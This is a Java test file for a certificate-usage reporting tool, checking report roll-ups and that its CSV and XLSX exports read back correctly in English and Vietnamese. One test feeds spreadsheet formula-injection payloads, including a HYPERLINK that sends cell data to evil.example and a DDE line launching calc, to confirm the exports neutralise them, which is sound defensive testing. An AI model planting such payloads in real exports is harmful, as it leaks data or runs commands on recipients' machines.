package vn.kyso.usage;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.InputStreamReader;
import java.io.Reader;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;

import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.DataFormatter;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

import vn.kyso.usage.export.CsvExport;

/** Reports by unit subtree and kind, and exports that read back equal to the report. */
class ReportAndExportTest {

    @ParameterizedTest
    @EnumSource(TestDatabase.class)
    void reportsRollUpBySubtreeAndKind(TestDatabase database) {
        try (TestDatabase.Open db = database.open()) {
            UsageReports usage = Fixtures.usage(db);
            SmallProvince p = new SmallProvince(usage);

            UsageReport all = usage.report(usage.defaultPeriod(), Language.EN);
            UsageReport uMinh = usage.report(usage.defaultPeriod().withUnit("966"), Language.EN);
            UsageReport personal = usage.report(usage.defaultPeriod().withKind(CertificateKind.PERSONAL), Language.EN);

            assertThat(all.summary()).isEqualTo(UsageReport.Summary.of(2, 1, 1, 1, 24 + 6 + 1));
            assertThat(all.headline(Language.EN)).isEqualTo("2 of 5 certificates used regularly: 40.00%");
            assertThat(all.byKind()).extracting(UsageReport.Breakdown::key).containsExactly("AGENCY", "PERSONAL");
            assertThat(breakdown(all.byDistrict(), "964").summary().regular()).isEqualTo(1);
            assertThat(breakdown(all.byDistrict(), "966").summary().certificates()).isEqualTo(3);
            // Xã Khánh An of district 966 (2018), whose code the commune of July 2025 reuses
            assertThat(breakdown(all.byCommune(), "32059@2018-01-01").summary())
                    .isEqualTo(UsageReport.Summary.of(0, 1, 1, 0, 1));
            assertThat(breakdown(all.byAgency(), "AG-STP").summary().regularRate()).isEqualByComparingTo("100.00");
            assertThat(uMinh.unit().code()).isEqualTo("966");
            assertThat(uMinh.summary().certificates()).isEqualTo(3);
            assertThat(uMinh.byDistrict()).extracting(UsageReport.Breakdown::key).containsExactly("966");
            assertThat(uMinh.byAgency()).isEmpty();
            assertThat(uMinh.dormant()).singleElement().satisfies(r -> {
                assertThat(r.owner()).isEqualTo("Phạm Ngọc Mai");
                assertThat(r.contact()).isEqualTo("phạm.ngọc.mai@camau.gov.vn");
                assertThat(r.unitName()).isEqualTo("Xã Khánh An");
                assertThat(r.lastUse()).isEqualTo(LocalDate.of(2024, 11, 20));
            });
            assertThat(uMinh.neverUsed()).extracting(r -> r.certificate()).containsExactly(p.never);
            assertThat(personal.summary().certificates()).isEqualTo(3);
            assertThat(all.topUsers()).extracting(UsageReport.CertificateUsage::certificate)
                    .containsExactly(p.regularAgency, p.regularPerson, p.occasional);
            assertThat(all.trend().get(6)).isEqualTo(new UsageReport.MonthTrend(java.time.YearMonth.of(2025, 7), 3, 2));
        }
    }

    @ParameterizedTest
    @EnumSource(value = TestDatabase.class, names = "H2")
    void exportsNeutraliseSpreadsheetFormulasInNames(TestDatabase database) throws Exception {
        try (TestDatabase.Open db = database.open()) {
            UsageReports usage = Fixtures.usage(db);
            List<String> attacks = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"Xem\")", "+1+cmd|' /C calc'!A0",
                    "-2+3", "@SUM(1,2)", "\tTab", "\rReturn");
            for (int i = 0; i < attacks.size(); i++) {
                CertificateRef ref = Fixtures.issue(usage, "f" + i, CertificateKind.PERSONAL, "AG-STP", "x" + i);
                usage.setOwner(ref, attacks.get(i), attacks.get(i));
            }
            UsageReport report = usage.report(usage.defaultPeriod(), Language.EN);
            ByteArrayOutputStream csvOut = new ByteArrayOutputStream();
            ByteArrayOutputStream xlsxOut = new ByteArrayOutputStream();

            usage.exportCsv(report, Language.EN, csvOut);
            usage.exportXlsx(report, Language.EN, xlsxOut);

            Reader reader = new InputStreamReader(new ByteArrayInputStream(csvOut.toByteArray(), 3, csvOut.size() - 3),
                    StandardCharsets.UTF_8);
            List<String> csvOwners = new java.util.ArrayList<>();
            try (CSVParser csv = CsvExport.FORMAT.builder().setHeader().setSkipHeaderRecord(true).get().parse(reader)) {
                csv.forEach(r -> csvOwners.add(r.get(2)));
            }
            List<String> xlsxOwners = new java.util.ArrayList<>();
            try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(xlsxOut.toByteArray()))) {
                Sheet certificates = book.getSheet("Certificates");
                for (int r = 1; r <= certificates.getLastRowNum(); r++) {
                    org.apache.poi.ss.usermodel.Cell cell = certificates.getRow(r).getCell(2);
                    assertThat(cell.getCellType()).isEqualTo(org.apache.poi.ss.usermodel.CellType.STRING);
                    xlsxOwners.add(cell.getStringCellValue());
                }
            }
            List<String> expected = attacks.stream().map(a -> "'" + a).toList();
            assertThat(csvOwners).containsExactlyInAnyOrderElementsOf(expected);
            assertThat(xlsxOwners).containsExactlyInAnyOrderElementsOf(expected);
        }
    }

    @ParameterizedTest
    @EnumSource(value = TestDatabase.class, names = "H2")
    void csvReadsBackAsTheReport(TestDatabase database) throws Exception {
        try (TestDatabase.Open db = database.open()) {
            UsageReports usage = Fixtures.usage(db);
            new SmallProvince(usage);
            UsageReport report = usage.report(usage.defaultPeriod(), Language.VI);
            ByteArrayOutputStream out = new ByteArrayOutputStream();

            usage.exportCsv(report, Language.VI, out);

            String text = out.toString(StandardCharsets.UTF_8);
            assertThat(text).startsWith("\uFEFF# 2 trên 5 chứng thư số được sử dụng thường xuyên: 40,00%");
            assertThat(text).contains("# Tiêu chí: Thường xuyên");
            Reader reader = new InputStreamReader(new ByteArrayInputStream(out.toByteArray(), 3, out.size() - 3),
                    StandardCharsets.UTF_8);
            try (CSVParser csv = CsvExport.FORMAT.builder().setHeader().setSkipHeaderRecord(true).get().parse(reader)) {
                assertThat(csv.getHeaderNames()).contains("Số hiệu", "Số chữ ký", "Phân loại");
                List<CSVRecord> rows = csv.getRecords();
                assertThat(rows).hasSize(report.certificates().size());
                for (int i = 0; i < rows.size(); i++) {
                    UsageReport.CertificateUsage expected = report.certificates().get(i);
                    CSVRecord row = rows.get(i);
                    assertThat(row.get("Số hiệu")).isEqualTo(expected.certificate().serial());
                    assertThat(row.get("Tổ chức cấp")).isEqualTo(expected.certificate().issuer());
                    assertThat(row.get("Chủ sở hữu")).isEqualTo(expected.owner());
                    assertThat(Long.parseLong(row.get("Số chữ ký"))).isEqualTo(expected.signatures());
                    assertThat(Integer.parseInt(row.get("Số tháng hoạt động"))).isEqualTo(expected.activeMonths());
                    assertThat(row.get("Lần dùng cuối")).isEqualTo(expected.lastUse() == null ? ""
                            : expected.lastUse().format(java.time.format.DateTimeFormatter.ofPattern("dd/MM/yyyy")));
                    assertThat(row.get("Phân loại")).isEqualTo(switch (expected.usageClass()) {
                        case REGULAR -> "Thường xuyên";
                        case OCCASIONAL -> "Không thường xuyên";
                        case DORMANT -> "Không hoạt động";
                        case NEVER_USED -> "Chưa sử dụng";
                    });
                    assertThat(row.get("Loại")).isIn("Cơ quan, tổ chức", "Cá nhân", "Chưa xác định");
                }
            }
            // no code of an enum in a Vietnamese export: the auditor reads words
            assertThat(text).doesNotContainPattern(
                    "\\b(AGENCY|PERSONAL|UNKNOWN|ACTIVE|SUSPENDED|REVOKED|EXPIRED|REGULAR|OCCASIONAL|DORMANT|NEVER_USED)\\b");
        }
    }

    @ParameterizedTest
    @EnumSource(value = TestDatabase.class, names = "H2")
    void xlsxReadsBackAsTheReport(TestDatabase database) throws Exception {
        try (TestDatabase.Open db = database.open()) {
            UsageReports usage = Fixtures.usage(db);
            new SmallProvince(usage);
            UsageReport report = usage.report(usage.defaultPeriod(), Language.EN);
            ByteArrayOutputStream out = new ByteArrayOutputStream();

            usage.exportXlsx(report, Language.EN, out);

            DataFormatter f = new DataFormatter();
            try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
                Sheet summary = book.getSheet("Summary");
                assertThat(summary.getRow(0).getCell(0).getStringCellValue()).isEqualTo(report.headline(Language.EN));
                assertThat(summary.getRow(3).getCell(1).getStringCellValue()).isEqualTo(report.policyStatement());
                Row counts = summary.getRow(6);
                assertThat(counts.getCell(2).getNumericCellValue()).isEqualTo(report.summary().certificates());
                assertThat(counts.getCell(3).getNumericCellValue()).isEqualTo(report.summary().regular());
                assertThat(counts.getCell(7).getNumericCellValue())
                        .isEqualTo(report.summary().regularRate().doubleValue());
                Sheet certificates = book.getSheet("Certificates");
                assertThat(certificates.getLastRowNum()).isEqualTo(report.certificates().size());
                for (int i = 0; i < report.certificates().size(); i++) {
                    UsageReport.CertificateUsage expected = report.certificates().get(i);
                    Row row = certificates.getRow(i + 1);
                    assertThat(f.formatCellValue(row.getCell(1))).isEqualTo(expected.certificate().serial());
                    assertThat(row.getCell(8).getNumericCellValue()).isEqualTo(expected.signatures());
                    assertThat(row.getCell(11).getStringCellValue()).isEqualTo(switch (expected.usageClass()) {
                        case REGULAR -> "Regular";
                        case OCCASIONAL -> "Occasional";
                        case DORMANT -> "Dormant";
                        case NEVER_USED -> "Never used";
                    });
                }
                assertThat(book.getSheet("Dormant").getLastRowNum()).isEqualTo(report.dormant().size());
                assertThat(book.getSheet("Never used").getLastRowNum()).isEqualTo(report.neverUsed().size());
                assertThat(book.getSheet("By district").getLastRowNum()).isEqualTo(report.byDistrict().size());
                assertThat(book.getSheet("By commune").getLastRowNum()).isEqualTo(report.byCommune().size());
                Sheet trend = book.getSheet("Trend");
                assertThat(trend.getLastRowNum()).isEqualTo(12);
                assertThat(trend.getRow(7).getCell(0).getStringCellValue()).isEqualTo("2025-07");
                assertThat(trend.getRow(7).getCell(1).getNumericCellValue()).isEqualTo(3);
            }
        }
    }

    @ParameterizedTest
    @EnumSource(value = TestDatabase.class, names = "H2")
    void aVietnameseWorkbookSpeaksVietnameseInSheetNamesAndValues(TestDatabase database) throws Exception {
        try (TestDatabase.Open db = database.open()) {
            UsageReports usage = Fixtures.usage(db);
            new SmallProvince(usage);
            UsageReport report = usage.report(usage.defaultPeriod(), Language.VI);
            ByteArrayOutputStream out = new ByteArrayOutputStream();

            usage.exportXlsx(report, Language.VI, out);

            try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
                List<String> names = new java.util.ArrayList<>();
                book.forEach(sheet -> names.add(sheet.getSheetName()));
                assertThat(names).containsExactly("Tổng hợp", "Theo loại", "Theo cơ quan", "Theo huyện", "Theo xã",
                        "Chứng thư số", "Không hoạt động", "Chưa sử dụng", "Xu hướng", "Dùng nhiều nhất");
                Sheet byKind = book.getSheet("Theo loại");
                assertThat(byKind.getRow(1).getCell(1).getStringCellValue()).isIn("Cơ quan, tổ chức", "Cá nhân");
                DataFormatter f = new DataFormatter();
                book.forEach(sheet -> sheet.forEach(row -> row.forEach(cell -> assertThat(f.formatCellValue(cell))
                        .as(sheet.getSheetName()).doesNotContainPattern(
                                "^(AGENCY|PERSONAL|UNKNOWN|ACTIVE|SUSPENDED|REVOKED|EXPIRED|REGULAR|OCCASIONAL|DORMANT|NEVER_USED)$"))));
            }
        }
    }

    static UsageReport.Breakdown breakdown(List<UsageReport.Breakdown> rows, String key) {
        return rows.stream().filter(b -> b.key().equals(key)).findFirst().orElseThrow();
    }
}
